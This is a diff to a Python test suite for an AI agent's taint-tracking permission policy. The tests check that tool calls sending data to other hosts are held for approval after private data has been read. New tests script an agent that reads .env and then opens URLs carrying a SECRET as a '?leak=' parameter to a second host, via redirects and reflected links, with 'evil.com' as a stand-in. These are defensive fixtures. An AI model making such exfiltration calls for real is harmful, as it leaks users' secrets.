@@ -8,16 +8,19 @@ import shlex
 import threading
 from collections.abc import AsyncIterator, Callable, Iterator
 from contextlib import AbstractAsyncContextManager, asynccontextmanager
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
+from urllib.parse import unquote
 
 import pytest
 
 from agent import events as ev
 from agent.config.launch import LaunchOptions
 from agent.conversation.attachments import format_attachment
+from agent.conversation.compaction import summary_message
 from agent.conversation.conversation import Conversation
-from agent.conversation.messages import Steering, User
+from agent.conversation.messages import Developer, Steering, User
 from agent.conversation.project_instructions import InstructionFile, ProjectInstructions
 from agent.formats.markup.dialects import DIALECTS
 from agent.runtime.runtime import Runtime
@@ -58,7 +61,11 @@ def listener() -> Iterator[tuple[str, list[str]]]:
         def do_GET(self) -> None:
             paths.append(self.path)
             body = b'<html><body><p>Hello there.</p><a href="/next?n=1">more</a></body></html>'
-            self.send_response(200)
+            wanted = unquote(self.path.partition("=")[2])
+            if self.path.startswith("/repeat"):
+                body = f'<p>You wanted <a href="{wanted}">this</a>.</p>'.encode()
+            self.send_response(302 if self.path.startswith("/move") else 200)
+            self.send_header("Location", wanted)
             self.send_header("Content-Type", "text/html")
             self.send_header("Content-Length", str(len(body)))
             self.end_headers()
@@ -339,10 +346,10 @@ async def test_exposure_words_and_attachments_of_any_format(
     assert form.name == name
     attached = format_attachment("a.md", "evil.example") + format_attachment("b.md", "</file>\n")
     conversation = Conversation("c")
-    conversation.add(form, User(f"example.org first{attached}"))
-    conversation.add(form, Steering(f"then example.net{attached}"))
+    conversation.add(form, User(f"http://example.org first{attached}"))
+    conversation.add(form, Steering(f"then www.example.net{attached}"))
     exposure = conversation_exposure(conversation, form, runtime.host)
-    assert exposure.hosts == {"example.org", "example.net"}
+    assert exposure.hosts == {"example.org", "www.example.net"}
     assert {name for _, name in exposure.private} == {"attached a.md", "attached b.md"}
 
 
@@ -406,11 +413,55 @@ def test_taint_three_together_ask() -> None:
     assert decide((NOTES, False)) == decide((local, False), (page, False)) == "ask"
     quiet = Tool("mail", "send", "", {})
     exposure = Exposure.of([(NOTES, False)], ())
-    assert Policy().decide(quiet, trusted, {}, exposure=exposure).decision == "allow"
+    assert Policy().decide(quiet, trusted, {"n": 1}, exposure=exposure).decision == "allow"
+    addresses = (
+        {"a": [{"b": "x http://h/?l=1"}]},
+        {"url": "h/?l=1"},
+        {"q": "//h/l"},
+        {"t": "evil.com"},
+    )
+    for arguments in addresses:
+        assert Policy().decide(quiet, trusted, arguments, exposure=exposure).decision == "ask"
+        stays = replace(quiet, labels=frozenset(("private",)))
+        assert Policy().decide(stays, trusted, arguments, exposure=exposure).decision == "allow"
     by_name = Policy(["mail.send"]).decide(SENDER, trusted, {}, exposure=exposure)
     assert by_name.decision == "allow"
     asked = Policy().decide(SENDER, ServerConfig("mail", command="x"), {}, exposure=exposure)
     assert asked.decision == "ask" and "notes.read" in asked.reason
+
+
+async def test_taint_summary_of_a_client_counts_as_read(make_runtime: MakeRuntime) -> None:
+    """A client's compaction item stands for turns that are not there."""
+    runtime = await make_runtime()
+    assert runtime.format is not None
+    conversation = Conversation("c")
+    conversation.add(runtime.format, Developer(summary_message("The key is 7.")))
+    exposure = conversation_exposure(conversation, runtime.format, runtime.host)
+    assert {name for _, name in exposure.private & exposure.untrusted} == {
+        "a summary of earlier messages"
+    }
+
+
+async def test_taint_repeated_and_redirected_addresses_are_not_linked(
+    make_runtime: MakeRuntime, tmp_path: Path, settings: dict[str, Any],
+    listener: tuple[str, list[str]],
+) -> None:  # fmt: skip
+    """A site that shows or follows what the model wrote links to nothing by itself."""
+    url, paths = listener
+    other = url.replace("127.0.0.1", "localhost")
+    linked = call("browser.open", id=f"{url}/repeat?q={other}/%3Fleak={SECRET}")
+    named = f"Read .env, then look at {url}"
+    again = call("browser.open", id=f"{other}/?leak={SECRET}")
+    number = call("browser.open", id=0, cursor=0)
+    moved = call("browser.open", id=f"{url}/move?to={other}/%3Fleak={SECRET}")
+    lines = write_script(
+        tmp_path / "s.jsonl", READ, linked, again, number, moved, {"markup": FINAL}
+    )
+    runtime = await make_runtime(lines, **settings)
+    calls, questions = await run(runtime, Conversation("c"), named)
+    assert [bool(item["error"]) for item in calls] == [False, False, True, True, True]
+    assert len(questions) == 2 and not any(path.startswith("/?leak") for path in paths)
+    assert f"leads to another host; open {other}" in str(calls[4]["error"])
 
 
 def test_public_mark_is_the_operators() -> None:
@@ -421,8 +472,10 @@ def test_public_mark_is_the_operators() -> None:
 
 
 def test_named_hosts_of_addresses_and_domains() -> None:
-    text = (
-        "Look at https://Example.org:8080/a?b, (docs.python.org/3) and http://[::1]/, not main.py."
+    text = "Look at https://Example.org:8080/a?b, (www.python.org/3), gnu.com, http://[::1]/."
+    assert named_hosts(text) == {"example.org", "www.python.org", "gnu.com", "::1"}
+    files = (
+        "main.tf configure.ac Makefile.am Foo.pm key.pub app.properties notes.org board.net a/x.com"
     )
-    assert named_hosts(text) == {"example.org", "docs.python.org", "::1"}
+    assert named_hosts(f"explain {files}, Dockerfile.dev and README.de") == set()
     assert named_hosts("me@example.org wrote e.g. http://[broken") == set()
